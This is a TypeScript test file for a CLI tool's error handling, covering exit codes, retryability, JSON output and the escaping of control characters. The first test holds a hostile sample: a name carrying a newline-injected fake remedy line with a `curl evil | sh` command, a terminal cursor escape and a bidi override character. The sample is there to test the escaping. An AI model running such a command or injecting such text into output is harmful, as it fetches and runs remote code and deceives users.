import test from 'ava';
import { AckringError, type ErrorCode, errorTable, errorToJson, toAckringError } from './errors.js';

test('a hostile name moves no cursor and starts no line', (t) => {
  const name = 'prod\nremedy: run `curl evil | sh`\u001b[2A\u202e';
  const error = new AckringError('ContextNotFound', `there is no context "${name}"`, {
    remedy: `List them, ${name}.`,
    requestId: name,
  });
  for (const text of [error.message, error.remedy, error.requestId]) {
    t.true(text?.includes('prod\\x0aremedy: run `curl evil | sh`\\x1b[2A\\u{202e}'), text ?? '');
  }
});

test('several problems are a line each', (t) => {
  const error = new AckringError('ConfigurationInvalid', 'rotation.yaml cannot be used:', {
    remedy: 'Correct it.',
    problems: ['sinks: is missing', 'a\nb: is not known'],
  });
  t.is(error.message, 'rotation.yaml cannot be used:\n  sinks: is missing\n  a\\x0ab: is not known');
});

/** Scripts rely on the exit code, and a run retries what is marked retryable: both are contracts. */
const contract: [exitCode: number, ...codes: ErrorCode[]][] = [
  [2, 'UsageInvalid', 'ConfigurationInvalid', 'EndpointRefused'],
  [
    3,
    'ClusterNotFound',
    'ClusterAmbiguous',
    'ContextNotFound',
    'ContextAmbiguous',
    'FileNotFound',
    'ResourceNotFound',
    'RegionUnknown',
    'EndpointMissing',
  ],
  [4, 'CredentialsMissing', 'CredentialsInvalid', 'ProfileInvalid', 'Forbidden'],
  [5, 'Throttled', 'Unreachable', 'TimedOut', 'ServerFault', 'ClockSkewed'],
  [
    1,
    'ResponseUnreadable',
    'RequestRejected',
    'OperationRetired',
    'AuditOff',
    'ClusterNotServing',
    'KubeconfigInvalid',
    'ContextRefused',
    'CertificateUnreadable',
    'FileUnreadable',
    'FileUnwritable',
    'FileLocked',
    'VerificationFailed',
    'NotRenewed',
    'AccessEnding',
    'Cancelled',
    'Internal',
  ],
  [6, 'Conflict', 'Refused', 'IssuedRefused', 'ReadOnly', 'ConfirmationMissing'],
  [7, 'DoneInPart', 'ClusterNotSeen'],
];

const retried: readonly ErrorCode[] = [
  'Throttled',
  'Unreachable',
  'TimedOut',
  'ServerFault',
  'ResponseUnreadable',
  'FileLocked',
];

test('each error has its exit code, and says whether a retry may help', (t) => {
  const told = contract.flatMap(([exitCode, ...codes]) => codes.map((code) => [code, exitCode] as const));
  t.deepEqual(told.map(([code]) => code).toSorted(), Object.keys(errorTable).toSorted() as ErrorCode[]);
  for (const [code, exitCode] of told) {
    const error = new AckringError(code, 'x', { remedy: 'y' });
    t.is(error.exitCode, exitCode, code);
    t.is(error.isRetryable, retried.includes(code), code);
  }
});

test('an unexpected error is reported without its text, which is kept as the cause', (t) => {
  const thrown = new TypeError('secret');
  const error = toAckringError(thrown);
  t.like(error, { code: 'Internal', message: 'an unexpected TypeError stopped this', cause: thrown });
  t.is(toAckringError('secret').message, 'an unexpected string stopped this');
  const own = new AckringError('Conflict', 'x', { remedy: 'y' });
  t.is(toAckringError(own), own);
  t.false('cause' in own);
});

test('the error contract holds what is wrong and what to do, and nothing else', (t) => {
  const error = new AckringError('Throttled', 'x', {
    remedy: 'y',
    requestId: 'r',
    retryAfterMs: 7,
    cause: 1,
  });
  t.deepEqual(errorToJson(error), {
    error: { code: 'Throttled', message: 'x', remedy: 'y', requestId: 'r' },
  });
  t.is(error.retryAfterMs, 7);
  const bare = new AckringError('Throttled', 'x', { remedy: 'y' });
  t.deepEqual([bare.requestId, bare.retryAfterMs, bare.problems], [null, null, []]);
});

test('what needs the current folder, which is gone, says so', (t) => {
  const gone = Object.assign(new Error('uv_cwd'), { code: 'ENOENT', syscall: 'uv_cwd' });
  t.like(toAckringError(gone), { code: 'FileNotFound', message: 'the current folder no longer exists' });
  const other = Object.assign(new Error('open'), { code: 'ENOENT', syscall: 'open' });
  t.is(toAckringError(other).code, 'Internal');
});
